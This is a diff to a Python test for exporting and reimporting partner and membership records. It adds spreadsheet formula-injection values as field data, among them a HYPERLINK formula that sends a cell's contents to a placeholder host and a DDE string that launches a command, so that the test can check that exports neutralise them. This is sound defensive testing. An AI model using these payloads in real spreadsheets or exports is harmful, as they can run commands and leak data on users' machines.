@@ -122,14 +122,18 @@ def test_exporting_and_reimporting_partners_and_memberships_changes_nothing(
         kind="institution",
         institution_type="funder",
         slug="eu",
-        name="European Union",
         country="BE",
         latitude="50.85045",
         longitude="4.34878",
         website="https://europa.eu",
+        # Written behind a ' on export (no live formula), read back without it.
+        name='=HYPERLINK("http://x?x="&B3,"Open")',
+        short_name="'=x",
+        description="@SUM(A1)",
+        note="-2+3+cmd|' /C calc'!A0",
     )
     factories.make_membership(
-        member=partner_a, network=network, left_on=datetime.date(2016, 12, 31)
+        member=partner_a, network=network, left_on=datetime.date(2016, 12, 31), note="\tx"
     )
     factories.make_membership(
         member=partner_a, network=network, joined_on=datetime.date(2018, 1, 1)
